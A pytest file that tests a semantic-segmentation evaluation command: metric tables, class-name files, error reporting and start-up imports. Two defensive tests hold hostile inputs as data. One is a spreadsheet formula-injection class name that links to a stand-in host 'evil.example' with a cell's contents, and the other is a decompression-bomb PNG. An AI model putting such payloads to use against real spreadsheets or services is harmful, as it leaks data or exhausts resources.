"""`segpipe evaluate semantic` end to end on label maps written into tmp_path."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import cv2
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from segpipe.cli import main
from segpipe.core.dataset_layout import parse_class_names

GT = np.array([[0, 0, 1, 1], [0, 2, 2, 255], [1, 1, 1, 255]], dtype=np.uint8)
PRED = np.array([[0, 1, 1, 1], [0, 2, 0, 0], [1, 1, 2, 2]], dtype=np.uint8)


def write_png(path: Path, array: np.ndarray) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    assert cv2.imwrite(str(path), array)


@pytest.fixture()
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    for stem in ("a", "b"):
        write_png(tmp_path / "gt" / f"{stem}.png", GT)
        write_png(tmp_path / "pred" / f"{stem}.png", PRED)
    write_png(tmp_path / "gt" / "c.png", GT)  # no prediction: counted as all wrong
    return tmp_path / "gt", tmp_path / "pred"


def expected_miou() -> float:
    """Numpy by hand: two scored copies of (GT, PRED) plus one GT whose pixels are all misses."""
    valid = GT != 255
    ious = []
    for c in range(3):
        tp = 2 * np.sum((GT == c) & (PRED == c) & valid)
        fp = 2 * np.sum((GT != c) & (PRED == c) & valid)
        fn = 2 * np.sum((GT == c) & (PRED != c) & valid) + np.sum((GT == c) & valid)
        ious.append(tp / (tp + fp + fn))
    return float(np.mean(ious))


def test_cli_writes_every_table(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    gt_dir, pred_dir = dirs
    out = tmp_path / "report"
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(out), "--classes", "bg,cat,dog"])
    assert result.exit_code == 0, result.output
    for name in ("summary", "per_class", "per_image", "confusion", "notes"):
        pd.testing.assert_frame_equal(pd.read_csv(out / f"{name}.csv"), pd.read_parquet(out / f"{name}.parquet"),
                                      check_dtype=False)
    summary = pd.read_csv(out / "summary.csv").set_index("metric")["value"]
    assert {"mIoU", "mDice", "aAcc", "mAcc", "fwIoU", "mIoU_per_image"} <= set(summary.index)
    assert summary["mIoU"] == pytest.approx(expected_miou(), abs=1e-12)
    assert list(pd.read_csv(out / "per_class.csv").columns) == [
        "class", "IoU", "Dice", "precision", "recall", "gt_pixels", "pred_pixels"]
    per_image = pd.read_csv(out / "per_image.csv")
    assert list(per_image.columns[:4]) == ["file", "IoU", "Dice", "aAcc"] and list(per_image["file"]) == ["a.png", "b.png", "c.png"]
    confusion = pd.read_csv(out / "confusion.csv")
    assert list(confusion["class"]) == ["bg", "cat", "dog"] and list(confusion.columns[1:4]) == ["bg", "cat", "dog"]
    assert pd.read_csv(out / "notes.csv").to_dict("records") == [{"file": "c.png", "issue": "missing_prediction"}]
    header = json.loads((out / "header.json").read_text())
    assert header["classes"] == ["bg", "cat", "dog"] and header["ignore_index"] == 255
    assert "mIoU" in result.output and "dog" in result.output


def test_cli_reads_converted_classes_file_and_is_deterministic(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    gt_dir, pred_dir = dirs
    (gt_dir / "classes.txt").write_text("background\ncat\ndog\n", encoding="utf-8")
    outs = []
    for run in range(2):
        out = tmp_path / f"r{run}"
        args = ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir), "-o", str(out)]
        if run:
            args += ["--classes", str(gt_dir / "classes.txt"), "--workers", "1"]
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 0, result.output
        outs.append(out)
    for name in ("summary.csv", "per_class.csv", "per_image.csv", "confusion.csv", "notes.csv"):
        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes()
    assert "background" in (outs[0] / "per_class.csv").read_text()


def test_cli_bad_prediction_fails_naming_the_file(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    gt_dir, pred_dir = dirs
    write_png(pred_dir / "b.png", np.full(GT.shape, 7, np.uint8))
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(tmp_path / "out"), "--classes", "bg,cat,dog"])
    assert result.exit_code == 1
    assert "b.png" in result.output and "7 (" in result.output
    assert not (tmp_path / "out" / "summary.csv").exists()


def test_cli_ignore_index_and_missing_classes(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    gt_dir, pred_dir = dirs
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(tmp_path / "o")])
    assert result.exit_code == 2 and "--classes" in result.output
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(tmp_path / "o"), "--classes", str(tmp_path / "nope.txt")])
    assert result.exit_code == 2 and "no such classes file" in result.output
    # ignore 2: GT 255 becomes out of range for 2 classes, and is named as a GT error.
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(tmp_path / "o"), "--classes", "bg,cat", "--ignore-index", "2"])
    assert result.exit_code == 1 and "ground truth values" in result.output and "255" in result.output


def test_parse_class_names() -> None:
    assert parse_class_names("road, sidewalk,sky") == ["road", "sidewalk", "sky"]
    assert parse_class_names("traffic light\ntraffic sign\n") == ["traffic light", "traffic sign"]
    assert parse_class_names("pet") == ["pet"]


def test_cli_accepts_dataset_and_prediction_dirs_with_semantic_subfolders(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    # `segpipe convert` writes DATASET/semantic/<stem>.png + classes.txt; `segpipe infer` writes PRED/semantic/.
    gt_dir, pred_dir = dirs
    shutil.copytree(gt_dir, tmp_path / "dataset" / "semantic")
    shutil.copytree(pred_dir, tmp_path / "predictions" / "semantic")
    (tmp_path / "dataset" / "semantic" / "classes.txt").write_text("background\ncat\ndog\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(tmp_path / "dataset"), "--pred",
                                       str(tmp_path / "predictions"), "-o", str(tmp_path / "report")])
    assert result.exit_code == 0, result.output
    summary = pd.read_csv(tmp_path / "report" / "summary.csv").set_index("metric")["value"]
    assert summary["mIoU"] == pytest.approx(expected_miou(), abs=1e-12)



def test_semantic_command_does_not_import_torch() -> None:
    # Evaluation start-up must not pay for importing torch/torchvision (seconds, for nothing it uses).
    code = ("import sys; from segpipe.cli import main; main.get_command(None, 'evaluate').get_command(None, 'semantic'); "
            "print(sorted(m for m in ('torch', 'torchvision', 'matplotlib') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_formula_like_class_names_are_escaped_in_csv_only(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    """A class named like a spreadsheet formula is text in the CSV (leading apostrophe), verbatim in Parquet."""
    import csv

    gt_dir, pred_dir = dirs
    out = tmp_path / "report"
    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    classes = tmp_path / "classes.txt"
    classes.write_text(f"bg\n{evil}\n@dog\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                                       "-o", str(out), "--classes", str(classes)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader((out / "per_class.csv").open(encoding="utf-8")) for cell in row]
    assert "'" + evil in cells and "'@dog" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    names = pd.read_parquet(out / "per_class.parquet").iloc[:, 0].tolist()
    assert evil in names and "@dog" in names
    numbers = pd.read_csv(out / "summary.csv").set_index("metric")["value"]
    assert numbers["mIoU"] == pytest.approx(pd.read_parquet(out / "summary.parquet").set_index("metric")["value"]["mIoU"])


def test_a_prediction_pixel_bomb_is_refused_with_bounded_memory(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    """A ~400 KB prediction PNG declaring 20000x20000 (400 MB decoded): refused from its header."""
    from tests.converters.test_hostile_sizes import bomb_png

    gt_dir, pred_dir = dirs
    (pred_dir / "a.png").write_bytes(bomb_png(20000, 20000, fill=1))
    code = ("import json, resource, sys\nfrom segpipe.cli import main\n"
            "try:\n    main.main(args=sys.argv[1:], prog_name='segpipe')\nexcept SystemExit as e:\n    rc = e.code\n"
            "print(json.dumps({'rc': rc, 'rss_kb': [int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]}))\n")
    done = subprocess.run([sys.executable, "-c", code, "evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
                           "-o", str(tmp_path / "r"), "--classes", "bg,cat,dog"], capture_output=True, text=True, timeout=300)
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["rc"] == 1, done.stderr
    assert f"{pred_dir / 'a.png'}: size: 20000x20000 = 400000000 pixels is over the limit" in done.stderr
    assert result["rss_kb"] < 350 * 1024, result
